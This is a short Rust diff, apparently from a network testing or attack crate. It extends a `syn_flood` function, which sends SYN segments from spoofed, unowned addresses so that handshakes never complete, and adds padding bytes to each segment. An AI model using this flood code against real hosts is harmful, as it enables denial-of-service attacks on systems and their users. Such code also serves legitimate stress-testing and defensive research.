@@ -10,13 +10,13 @@ use super::frames::{ACK, FIN, Mac, PSH, RST, SYN, Seen, Segment, URG};
 use super::random::Random;
 use super::sniff::Wire;
 
-/// Sends `count` SYNs from addresses that nobody has, so that no handshake is ever finished, as fast
-/// as the interface takes them but for no longer than `limit`. Returns how many were sent.
+/// Sends `count` SYNs with so many bytes behind each, from addresses that nobody has, so that no handshake
+/// is ever finished, as fast as the interface takes them but for no longer than `limit`. Returns how many were sent.
 pub(crate) fn syn_flood(
     wire: &Wire,
     psc_mac: Mac,
     target: SocketAddr,
-    count: usize,
+    (count, payload): (usize, usize),
     limit: Duration,
 ) -> Result<usize> {
     let deadline = Instant::now() + limit;
@@ -30,6 +30,7 @@ pub(crate) fn syn_flood(
         let mut syn = Segment::new(from, target, SYN);
         syn.sequence = random.next() as u32;
         syn.options = syn_options(random.next() as u32);
+        syn.payload = vec![b'x'; payload];
         if wire.send(&syn.frame(wire.mac, psc_mac))? {
             sent += 1;
         } else {
